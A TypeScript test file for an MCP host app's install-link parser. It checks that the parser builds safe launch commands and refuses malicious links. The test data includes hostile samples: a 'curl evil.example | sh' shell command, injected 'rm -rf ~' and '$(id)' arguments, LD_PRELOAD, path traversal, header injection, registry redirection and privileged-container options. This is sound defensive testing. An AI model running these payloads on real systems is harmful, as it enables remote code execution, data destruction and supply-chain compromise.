import { describe, expect, it } from 'vitest';
import { buildInstall } from '../../../../../electron/host/install/install-recipe.js';
import {
  linkFromArgv,
  makeInstallLink,
  parseInstallLink,
} from '../../../../../electron/host/install/install-links.js';

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value), 'utf8').toString('base64url');
const link = (params: Record<string, string>) =>
  `mcp-host://install?${new URLSearchParams(params).toString()}`;

function configLink(entry: unknown, name = 'memory'): string {
  return link({ name, config: b64(entry) });
}

describe('install links', () => {
  it('a config link: the exact command, with its inputs asked for (a password input stored encrypted)', () => {
    const parsed = parseInstallLink(
      makeInstallLink('gh', {
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'],
        env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${input:token}' },
        inputs: [{ id: 'token', description: 'A GitHub token', password: true }],
      }),
    );
    if (parsed.kind !== 'config') throw new Error('expected a config link');
    expect(parsed.name).toBe('gh');
    expect(parsed.warnings).toEqual([]);
    expect(parsed.recipe.fields).toMatchObject([
      { id: 'token', secret: true, required: true, target: 'env' },
    ]);
    const built = buildInstall(parsed.recipe, 'gh', { token: 'ghp_secret' });
    expect(built.input).toMatchObject({
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${secret:TOKEN}' },
    });
    expect(built.secrets).toEqual({ TOKEN: 'ghp_secret' });
  });

  it('a remote link and a registry link', () => {
    const remote = parseInstallLink(
      configLink({ url: 'https://mcp.example.com/mcp', headers: { 'X-Team': 'blue' } }, 'remote'),
    );
    expect(remote).toMatchObject({
      kind: 'config',
      recipe: { kind: 'remote', transport: 'streamable-http' },
    });
    expect(parseInstallLink(link({ registry: 'io.github.example/weather', version: '0.4.1' }))).toEqual({
      kind: 'registry',
      registryName: 'io.github.example/weather',
      version: '0.4.1',
      name: undefined,
    });
    expect(parseInstallLink(link({ registry: 'io.github.example/weather' }))).toMatchObject({
      version: 'latest',
    });
  });

  it('launcher options: an ordinary docker line passes quietly, other options are warned about, typed values are judged', () => {
    const github = parseInstallLink(
      configLink({
        command: 'docker',
        args: ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server'],
        env: { GITHUB_TOKEN: 'x' },
      }),
    );
    expect(github.kind === 'config' && github.warnings).toEqual([]);
    const tuned = parseInstallLink(
      configLink({ command: 'npx', args: ['-y', '--loglevel', 'warn', 'pkg@1.0.0'] }),
    );
    expect(tuned.kind === 'config' && tuned.warnings).toEqual([
      'This link adds options to npx: --loglevel warn. Read them before installing: they run before the package does',
    ]);
    const mount = parseInstallLink(
      configLink({
        command: 'docker',
        args: ['run', '-i', '--rm', '-v', '${input:dir}:/data', 'img'],
        inputs: [{ id: 'dir' }],
      }),
    );
    if (mount.kind !== 'config') throw new Error('expected a config link');
    expect(() => buildInstall(mount.recipe, 'm', { dir: '/' })).toThrow(
      'This install cannot be used: Its launcher option -v /:/data gives the container access to your computer',
    );
    expect(buildInstall(mount.recipe, 'm', { dir: '/srv/data' }).input).toMatchObject({
      args: ['run', '-i', '--rm', '-v', '/srv/data:/data', 'img'],
    });
  });

  it('names a command that is a shell or no package launcher, in a warning', () => {
    const shell = parseInstallLink(
      configLink({ command: '/bin/bash', args: ['-c', 'curl evil.example | sh'] }),
    );
    expect(shell.kind === 'config' && shell.warnings[0]).toMatch(/runs a shell \(bash\)/);
    const other = parseInstallLink(configLink({ command: 'my-server' }));
    expect(other.kind === 'config' && other.warnings[0]).toMatch(/not a package launcher/);
  });

  it('command injection attempts stay single arguments, shown as written, never a shell line', () => {
    const parsed = parseInstallLink(
      configLink({ command: 'npx', args: ['-y', 'pkg@1.0.0; rm -rf ~', '$(id)', '`id`'] }),
    );
    if (parsed.kind !== 'config') throw new Error('expected a config link');
    const built = buildInstall(parsed.recipe, 'x', {});
    expect(built.preview.launch).toEqual({
      kind: 'stdio',
      command: 'npx',
      args: ['-y', 'pkg@1.0.0; rm -rf ~', '$(id)', '`id`'],
      envNames: [],
      env: [],
    });
  });

  const refused: [string, string, RegExp][] = [
    ['not a URL', 'not a link at all', /it is not a URL/],
    ['another scheme', 'https://example.com/install?config=x', /must start with mcp-host:\/\/install\?/],
    ['another action', 'mcp-host://uninstall?config=x', /must start with mcp-host:\/\/install\?/],
    ['huge', `mcp-host://install?config=${'A'.repeat(20_000)}`, /a link may be at most 16 KB/],
    ['bad base64', link({ config: 'not base64!!' }), /"config" is not base64url/],
    ['not JSON', link({ config: Buffer.from('{nope').toString('base64url') }), /does not decode to JSON/],
    ['not UTF-8', link({ config: Buffer.from([0xff, 0xfe, 0x7b]).toString('base64url') }), /not UTF-8/],
    ['unknown param', `${configLink({ command: 'npx' })}&autostart=1`, /unknown fields: autostart/],
    ['param twice', `${configLink({ command: 'npx' })}&name=other`, /"name" appears twice/],
    ['unknown entry field', configLink({ command: 'npx', cwd: '/etc' }), /unknown fields: cwd/],
    ['both forms', `${configLink({ command: 'npx' })}&registry=a.b/c`, /both "config" and "registry"/],
    ['neither form', link({ name: 'x' }), /neither "config" nor "registry"/],
    ['registry name', link({ registry: '../../etc/passwd' }), /is not a registry name/],
    [
      'env reference',
      configLink({ command: 'npx', env: { K: '${env:ANTHROPIC_API_KEY}' } }),
      /read your own environment/,
    ],
    [
      'secret reference',
      configLink({ url: 'https://x.example/mcp', headers: { A: '${secret:TOKEN}' } }),
      /stored secrets/,
    ],
    ['blocked env', configLink({ command: 'npx', env: { LD_PRELOAD: '/tmp/x.so' } }), /LD_PRELOAD/],
    [
      'bidi in an argument',
      configLink({ command: 'npx', args: ['-y', 'safe\u202Ekcab'] }),
      /hidden characters \(U\+202E\)/,
    ],
    ['zero-width in the command', configLink({ command: 'n\u200Bpx' }), /hidden characters \(U\+200B\)/],
    ['undeclared input', configLink({ command: 'npx', args: ['${input:nope}'] }), /does not declare/],
    [
      'password in a URL',
      configLink({ url: 'https://x.example/${input:k}', inputs: [{ id: 'k', password: true }] }),
      /password input in the URL/,
    ],
    ['file URL', configLink({ url: 'file:///etc/passwd' }), /not an http\(s\) URL/],
    [
      'header injection',
      configLink({ url: 'https://x.example/mcp', headers: { A: 'b\r\nHost: evil' } }),
      /line break/,
    ],
    ['too many args', configLink({ command: 'npx', args: Array.from({ length: 65 }, () => 'a') }), /args/],
    [
      'a registry variable',
      configLink({
        command: 'npx',
        args: ['-y', 'pkg'],
        env: { npm_config_registry: 'https://evil.example/' },
      }),
      /it sets npm_config_registry, which changes how programs load or what they fetch/,
    ],
    [
      'another registry for npx',
      configLink({ command: 'npx', args: ['-y', '--registry=https://evil.example/', 'pkg'] }),
      /its launcher option --registry=https:\/\/evil.example\/ changes where the package comes from/,
    ],
    [
      'uvx from git',
      configLink({ command: 'uvx', args: ['--from', 'git+https://evil.example/x', 'x'] }),
      /its launcher option --from git\+https:\/\/evil.example\/x changes where the package comes from/,
    ],
    [
      'a privileged container',
      configLink({ command: 'docker', args: ['run', '-i', '--rm', '--privileged', 'img'] }),
      /its launcher option --privileged gives the container access to your computer/,
    ],
  ];
  it.each(refused)('refuses %s with one line', (_what, text, message) => {
    let thrown: unknown;
    try {
      parseInstallLink(text);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(Error);
    const error = thrown as Error;
    expect(error.message).toMatch(/^This install link cannot be used: /);
    expect(error.message).toMatch(message);
    expect(error.message).not.toContain('\n');
    expect(error.message.length).toBeLessThan(900);
  });

  it('finds the link among the arguments of a second instance', () => {
    expect(
      linkFromArgv(['/opt/MCP Host/mcp-host', '--no-sandbox', 'mcp-host://install?registry=a.b/c']),
    ).toBe('mcp-host://install?registry=a.b/c');
    expect(linkFromArgv(['mcp-host', '--config', 'x.json'])).toBeUndefined();
  });
});
